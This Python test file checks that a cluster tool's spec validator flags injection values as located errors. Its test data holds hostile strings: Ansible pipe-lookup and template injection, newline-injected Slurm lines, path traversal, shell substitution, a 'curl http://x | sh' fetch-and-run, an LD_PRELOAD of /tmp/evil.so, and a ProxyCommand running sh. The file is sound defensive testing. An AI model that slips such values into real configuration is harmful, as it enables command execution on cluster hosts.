"""Spec strings are typed: a value that would change the meaning of a rendered file (a newline
in slurm.conf, `$(` in an sbatch script, `{{` that Ansible would run, `../` in a path) is a
located `spec check` error, not something the renderer has to survive."""

from __future__ import annotations

import re

import pytest

from cluster_tool.cli import main
from tests.conftest import with_sections
from tests.unit.spec.test_validation import LAB, edited, line_of, problems_of

# (text edit, the line the problem must point at, field path) - each value is one a careless
# or hostile spec author could write and that, before typing, went through `spec check`.
HOSTILE = [
    pytest.param(
        ("  domain: lab.internal\n", "  domain: \"{{ lookup('pipe','id > /tmp/x') }}\"\n"),
        "lookup('pipe'",
        "management.domain",
        id="domain-runs-on-controller",
    ),
    pytest.param(
        ("  interface: eth0\n", '  interface: "eth0\\nNodeName=evil01 CPUs=1"\n'),
        "interface:",
        "management.interface",
        id="interface-adds-node-line",
    ),
    pytest.param(
        ("      default: true\n", '      default: true\n      max_time: "1\\nPartitionName=pwn"\n'),
        "max_time",
        "slurm.partitions[0].max_time",
        id="max-time-adds-partition",
    ),
    pytest.param(
        ("  controller: head\n", "  controller: head\n  cluster_name: ../../etc\n"),
        "cluster_name",
        "slurm.cluster_name",
        id="cluster-name-moves-munge-key",
    ),
    pytest.param(
        (
            "  controller: head\n",
            '  controller: head\n  cluster_name: "lab\\nPrologSlurmctld=/x"\n',
        ),
        "cluster_name",
        "slurm.cluster_name",
        id="cluster-name-adds-slurm-line",
    ),
    pytest.param(
        ("  controller: head\n", "  controller: head; id\n"),
        "controller:",
        "slurm.controller",
        id="controller-shell",
    ),
    pytest.param(
        ("  leaf_ports: 40\n", '  leaf_ports: 40\n  leaf_name_pattern: "su{su}\\nleaf{rail}"\n'),
        "leaf_name_pattern",
        "fabric.leaf_name_pattern",
        id="leaf-name-newline",
    ),
    pytest.param(
        ('  address_pattern: "10.77.0.1:8{number:03d}"\n', "  address_pattern: '{{ 7*7 }}'\n"),
        "address_pattern",
        "bmc.address_pattern",
        id="bmc-pattern-template",
    ),
    pytest.param(
        ('  address_pattern: "10.77.0.1:8{number:03d}"\n', "  address_pattern: 'ftp://{name}'\n"),
        "address_pattern",
        "bmc.address_pattern",
        id="bmc-pattern-other-scheme",
    ),
]

APPENDED = [
    pytest.param("nccl:\n  tests:\n    min_bytes: '8; curl http://x | sh'\n", "min_bytes", id="sh"),
    pytest.param("nccl:\n  tests:\n    max_bytes: '$(touch /tmp/x)'\n", "max_bytes", id="subst"),
    pytest.param("nccl:\n  tests:\n    max_bytes: '`id`'\n", "max_bytes", id="backtick"),
    pytest.param("nccl:\n  tests:\n    binary_dir: /opt/../tmp/evil\n", "binary_dir", id="dotdot"),
    pytest.param("nccl:\n  tests:\n    binary_dir: 'opt/nccl'\n", "binary_dir", id="relative"),
    pytest.param("nccl:\n  extra_env:\n    LD_PRELOAD: /tmp/evil.so\n", "LD_PRELOAD", id="env-key"),
    pytest.param(
        'nccl:\n  extra_env:\n    NCCL_DEBUG: "INFO\\nLD_PRELOAD=/tmp/evil.so"\n',
        "NCCL_DEBUG",
        id="env-value-newline",
    ),
    pytest.param("nccl:\n  socket_ifname: 'eth0 lo'\n", "socket_ifname", id="ifname-space"),
    pytest.param("software:\n  nccl_version: '2.21.5-1; id'\n", "nccl_version", id="version"),
    pytest.param(
        "software:\n  repositories:\n    cuda: 'https://x/$(id)/'\n", "cuda:", id="url-subst"
    ),
    pytest.param(
        "software:\n  repositories:\n    cuda: 'https://x/{{ 7*7 }}/'\n", "cuda:", id="url-template"
    ),
]


@pytest.mark.parametrize(("edit", "needle", "path"), HOSTILE)
def test_a_hostile_value_is_a_located_spec_error(
    edit: tuple[str, str], needle: str, path: str
) -> None:
    text = edited(*edit)
    problems = problems_of(text)
    located = [p for p in problems if p.startswith(f"c.yml:{line_of(text, needle)}:")]
    assert any(f": {path}: " in p for p in located), problems


@pytest.mark.parametrize(("block", "needle"), APPENDED)
def test_a_hostile_value_in_nccl_or_software_is_a_located_spec_error(
    block: str, needle: str
) -> None:
    text = with_sections(LAB, block)
    problems = problems_of(text)
    line = line_of(text, needle)
    assert any(p.startswith(f"c.yml:{line}:") for p in problems), problems


def test_the_ordinary_values_still_pass() -> None:
    # What real clusters write: these must keep working.
    text = edited("      default: true\n", '      default: true\n      max_time: "7-00:00:00"\n')
    text = edited("  controller: head\n", "  controller: head\n  cluster_name: lab_a-1\n", text)
    text = with_sections(
        text,
        "nccl:\n"
        "  socket_ifname: enp170s0f0np0\n"
        "  extra_env:\n"
        "    NCCL_IB_GID_INDEX: '3'\n"
        "    NCCL_NET_GDR_LEVEL: PHB\n"
        "    NCCL_DEBUG_FILE: /var/log/nccl/%h.%p.log\n"
        "    NCCL_SOCKET_IFNAME: ^docker,lo\n"
        "  tests:\n"
        "    min_bytes: 1M\n"
        "    max_bytes: 16G\n"
        "    binary_dir: /opt/nccl-tests/build\n"
        "software:\n"
        "  nccl_version: 2.21.5-1+cuda12.4\n"
        "  nccl_tests_version: v2.13.11\n"
        "  repositories:\n"
        "    cuda: https://mirror.example.net/cuda/repos/ubuntu2204/x86_64/\n",
    )
    from cluster_tool.spec import load_spec_text

    cluster = load_spec_text(text, "c.yml")
    assert cluster.slurm_cluster_name == "lab_a-1"
    assert cluster.nccl.extra_env["NCCL_DEBUG_FILE"] == "/var/log/nccl/%h.%p.log"


@pytest.mark.parametrize(
    "key",
    [
        "ansible_ssh_common_args",
        "ansible_become_exe",
        "ansible_connection",
        "ansible_shell_executable",
        "ansible_python_interpreter",
    ],
)
def test_ansible_vars_refuses_connection_and_privilege_variables(key: str) -> None:
    text = LAB + f"ansible_vars:\n  {key}: '-o ProxyCommand=\"sh -c id\"'\n"
    (problem,) = problems_of(text)
    assert problem.startswith(f"c.yml:{line_of(text, key)}:")
    assert f"ansible_vars.{key}: " in problem and "ansible_connection_vars" in problem


def test_the_escape_hatch_takes_them_and_only_them() -> None:
    from cluster_tool.spec import load_spec_text

    text = LAB + "ansible_connection_vars:\n  ansible_ssh_common_args: -F /etc/lab/ssh_config\n"
    cluster = load_spec_text(text, "c.yml")
    assert cluster.ansible_connection_vars == {"ansible_ssh_common_args": "-F /etc/lab/ssh_config"}
    (problem,) = problems_of(LAB + "ansible_connection_vars:\n  cuda_repo_url: http://x/\n")
    assert "ansible_connection_vars.cuda_repo_url: " in problem


def test_spec_check_exits_2_with_the_location(tmp_path, capsys) -> None:  # type: ignore[no-untyped-def]
    spec = tmp_path / "c.yml"
    spec.write_text(edited("  domain: lab.internal\n", "  domain: '{{ 7*7 }}'\n"))
    assert main(["spec", "check", str(spec)]) == 2
    err = capsys.readouterr().err
    assert f"c.yml:{line_of(spec.read_text(), 'domain')}:" in err
    assert "management.domain" in err


def test_the_json_schema_carries_the_types_for_editors() -> None:
    from cluster_tool.spec.schema import spec_schema

    defs = spec_schema()["$defs"]
    for model, field in [
        ("Management", "interface"),
        ("Slurm", "controller"),
        ("Partition", "max_time"),
        ("NcclTests", "binary_dir"),
    ]:
        prop = defs[model]["properties"][field]
        pattern = prop.get("pattern") or next(
            (p["pattern"] for p in prop.get("anyOf", []) if "pattern" in p), None
        )
        assert pattern, (model, field)
        assert not re.search(pattern, "x\n{{ 7*7 }}"), (model, field)
